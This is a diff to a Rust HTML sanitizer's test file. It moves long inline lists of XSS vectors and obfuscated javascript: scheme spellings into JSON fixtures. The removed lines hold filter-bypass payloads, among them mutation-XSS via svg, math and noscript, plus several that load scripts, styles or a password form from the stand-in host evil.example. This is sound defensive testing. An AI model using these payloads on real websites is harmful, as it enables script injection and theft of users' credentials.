@@ -74,96 +74,11 @@ fn check(html: &str, out: &str) {
 
 #[test]
 fn nothing_that_runs_passes_and_each_drop_is_told() {
-    let vectors = [
-        "<script>alert(1)</script>",
-        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-        "<scr<script>ipt>alert(1)</scr</script>ipt>",
-        "<script/x>alert(1)</script/x>",
-        "<script\n>alert(1)</script\n>",
-        "<script>alert(1)",
-        "<<script>alert(1);//<</script>",
-        "<script type=module>import '//evil.example'</script>",
-        "<script><!--<script></script>--></script>",
-        "<img src=x onerror=alert(1)>",
-        "<img src=x onerror=alert(1)//",
-        "<img/src=x /onerror=alert(1)>",
-        "<img src=\"x\"onerror=\"alert(1)\">",
-        "<img src=x ONERROR\n=\talert(1)>",
-        "<img src=x alt='`onerror=alert(1)' onload=alert(1)>",
-        "<img srcset='javascript:alert(1) 1x' onload=x>",
-        "<img name=currentScript>",
-        "<img name=body src=x>",
-        "<svg onload=alert(1)>",
-        "<svg/onload=alert(1)>",
-        "<svg><script>alert(1)</script></svg>",
-        "<svg><style><img src=x onerror=alert(1)></style></svg>",
-        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-        "<svg><animate onbegin=alert(1) attributeName=x>",
-        "<svg><use href='data:image/svg+xml,x#x'></svg>",
-        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-        "<math href='javascript:alert(1)'>x</math>",
-        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-        "<iframe src='javascript:alert(1)'></iframe>",
-        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-        "<iframe>\n<img src=x onerror=alert(1)>",
-        "<object data='data:text/html,x'><img src=x onerror=alert(1)></object>",
-        "<embed src='//evil.example/x.swf'>",
-        "<applet code=x></applet>",
-        "<base href='//evil.example/'>",
-        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-        "<link rel=stylesheet href='//evil.example/x.css'>",
-        "<style>@import '//evil.example/x.css';</style>",
-        "<style>*{background:url(javascript:alert(1))}</style>",
-        "<div style='background:url(//evil.example)'>x</div>",
-        "<div style=\"width:expression(alert(1))\">x</div>",
-        "<form action='//evil.example'><input name=password><button>x</button></form>",
-        "<button formaction='javascript:alert(1)'>x</button>",
-        "<input autofocus onfocus=alert(1)>",
-        "<select autofocus onfocus=alert(1)><option>x</select>",
-        "<textarea autofocus onfocus=alert(1)></textarea><b onclick=x>y</b>",
-        "<details open ontoggle=alert(1)><summary>x</summary></details>",
-        "<video src=x onerror=alert(1)></video>",
-        "<video autoplay src=x></video>",
-        "<video><source onerror=alert(1)></video>",
-        "<audio src=x onloadstart=alert(1)></audio>",
-        "<body onload=alert(1)>",
-        "<html onclick=alert(1)>x</html>",
-        "<marquee onstart=alert(1)>x</marquee>",
-        "<a onmouseover=alert(1)>x</a>",
-        "<a href='x' ping='//evil.example'>x</a>",
-        "<a href='https://example.org' target=_top rel=opener>x</a>",
-        "<a id=benchbook>x</a>",
-        "<a id=__proto__>x</a>",
-        "<p id=MAIN>x</p>",
-        "<a id=benchbook-search name=main>x</a>",
-        "<table background='javascript:alert(1)'><tr><td background=x>y</table>",
-        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
-        "<title><img src=x onerror=alert(1)></title>",
-        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
-        "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
-        "<template><script>alert(1)</script></template>",
-        "<plaintext><script>alert(1)</script>",
-        "<isindex type=image src=1 onerror=alert(1)>",
-        "<x-a onclick=alert(1)>x</x-a>",
-        "<div contenteditable autofocus onfocus=x tabindex=0>x</div>",
-        "<p is=x-y slot=z part=w nonce=v>x</p>",
-        "<div data-x='y' popover hidden accesskey=x>x</div>",
-        "<![CDATA[<script>alert(1)</script>]]>",
-        "<?xml version='1.0'?>",
-        "<!DOCTYPE html [<!ENTITY x 'y'>]>",
-        "<!ELEMENT x>",
-        "<//><img src=x onerror=alert(1)>",
-        "<b <script>alert(1)</script>>x</b>",
-        "<b \"><script>alert(1)</script>\">x</b>",
-        "<a href='x' title=\"a\" href='javascript:alert(1)' onclick=x>y</a>",
-        "<p/onclick=alert(1)>x</p>",
-        "<p title='`'onclick='alert(1)'>x</p>",
-        "\0<im\0g src=x onerror=alert(1)>",
-        "<div id='a b'>x</div>",
-    ];
+    let vectors: Vec<String> =
+        serde_json::from_str(include_str!("../../../tests/raw-html.json")).expect("a list of texts");
+    assert!(vectors.len() >= 100);
     let mut silent = Vec::new();
-    for html in vectors {
+    for html in vectors.iter().map(String::as_str) {
         let (_, told) = fed(Policy::Listed, &[html]);
         let (out, _) = listed(html);
         if !told.iter().any(|told| told.code == Code::HtmlDropped) {
@@ -182,25 +97,8 @@ fn nothing_that_runs_passes_and_each_drop_is_told() {
 
 #[test]
 fn schemes_are_asked_for_as_a_browser_reads_them() {
-    let spellings = [
-        "javascript:alert(1)",
-        "JaVaScRiPt:alert(1)",
-        "java&#x73;cript:alert(1)",
-        "&#106;avascript:alert(1)",
-        "&#0000106avascript:alert(1)",
-        "java&Tab;script:alert(1)",
-        "java&NewLine;script:alert(1)",
-        "jav\tascript:alert(1)",
-        "java\nscript:alert(1)",
-        "\u{1}javascript:alert(1)",
-        " &#14;  javascript:alert(1)",
-        "javascript&colon;alert(1)",
-        "vbscript:x",
-        "data:text/html,x",
-        "data:image/svg+xml,x",
-        "file:///etc/passwd",
-        "blob:x",
-    ];
+    let spellings: Vec<String> =
+        serde_json::from_str(include_str!("../../../tests/schemes.json")).expect("a list of texts");
     for address in spellings {
         for html in [format!("<a href=\"{address}\">x</a>"), format!("<img src=\"{address}\" alt>")] {
             let (out, told) = listed(&html);
@@ -468,7 +366,7 @@ fn all_of_it_passes_byte_for_byte() {
 fn ids_are_those_that_a_page_has() {
     let html = "<a name=a></a><p id=b><a id=c name=d></a><script><p id=e></script><form id=f></form><p id=main>\
         <svg><g id=g></svg><p id='h i'>";
-    assert_eq!(ids(html, Policy::Listed), ["a", "b", "c"]);
+    assert_eq!(ids(html, Policy::Listed), ["a", "b", "c", "main"]);
     assert_eq!(ids(html, Policy::All), ["a", "b", "c", "d", "f", "main", "g", "h i"]);
 }
 
